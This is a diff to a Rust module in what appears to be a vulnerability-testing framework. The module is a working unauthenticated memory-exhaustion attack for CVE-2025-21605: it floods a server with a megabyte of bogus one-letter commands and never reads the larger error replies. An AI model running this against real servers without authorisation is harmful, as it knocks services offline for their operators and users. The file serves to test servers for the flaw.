@@ -10,8 +10,9 @@ use crate::attack::Outcome;
 use crate::scene::Scene;
 
 attack! {
-    /// Sends, without a login, up to 8 MiB of small commands and reads none of the replies, which
-    /// are larger. A server that keeps them all fills its memory.
+    /// Sends, without a login, a megabyte of commands that are one letter long and do not exist,
+    /// and reads no reply until all are sent. The replies are eighteen times as large; what the
+    /// network does not take, the server keeps.
     ///
     /// # Gain
     /// Without any password, a few connections take the memory of the server (CVE-2025-21605).
@@ -29,34 +30,34 @@ attack! {
     run: run,
 }
 
-/// One command; `COMMAND DOCS` and its like are not asked for, since who is let in may ask them.
-const COMMAND: &[u8] = b"*2\r\n$4\r\nECHO\r\n$400\r\n";
-/// Its argument.
-const WORD: [u8; 400] = [b'x'; 400];
+/// Inline, since that is the shortest. The error that answers it has over fifty bytes.
+const COMMAND: &[u8] = b"x\r\n";
 /// Commands in one write.
-const BATCH: usize = 1000;
-/// Writes: 8 MiB in all.
-const BATCHES: usize = 20;
-/// After how long without room for more bytes the server has stopped to read.
-const PATIENCE: Duration = Duration::from_millis(200);
+const BATCH: usize = 10_000;
+/// Writes: a megabyte in all.
+const BATCHES: usize = 35;
+/// How long the server may be silent before its last reply is taken to be here.
+const PATIENCE: Duration = Duration::from_secs(1);
 
 async fn run(scene: &Scene) -> Outcome {
     let mut line = scene.raw_stranger().await?;
-    let batch = [COMMAND, &WORD, b"\r\n"].concat().repeat(BATCH);
-    for number in 0..BATCHES {
+    let batch = COMMAND.repeat(BATCH);
+    for _ in 0..BATCHES {
         if line.send_silently(&batch).await.is_err() {
-            let sent = number * batch.len() / 1024;
-            let reason = format!("the server hung up after {sent} KiB of commands");
-            scene.transcript().remark(&reason);
-            return Ok(ProofVerdict::Blocked(reason));
+            return Ok(hung_up(scene));
         }
     }
-    let sent = BATCHES * batch.len() / 1024;
-    scene.transcript().remark(&format!("{sent} KiB of commands were sent, and nothing was read"));
-    // Replies that fit in the buffers of the network are there; an end behind them shows later.
-    let end = line.drain(PATIENCE).await?;
+    let sent = BATCH * BATCHES;
+    scene.transcript().remark(&format!("{sent} commands were sent before a reply was read"));
+    let (read, end) = line.drain(PATIENCE).await?;
     Ok(match end {
-        End::Closed => ProofVerdict::Blocked("the server hung up on who did not read".into()),
-        _ => ProofVerdict::Succeeded(format!("the server kept the replies to {sent} KiB")),
+        End::Closed => hung_up(scene),
+        _ => ProofVerdict::Succeeded(format!("the server kept {} MiB of replies", read >> 20)),
     })
+}
+
+fn hung_up(scene: &Scene) -> ProofVerdict {
+    let reason = "the server hangs up on a stranger who does not read";
+    scene.transcript().remark(reason);
+    ProofVerdict::Blocked(reason.into())
 }
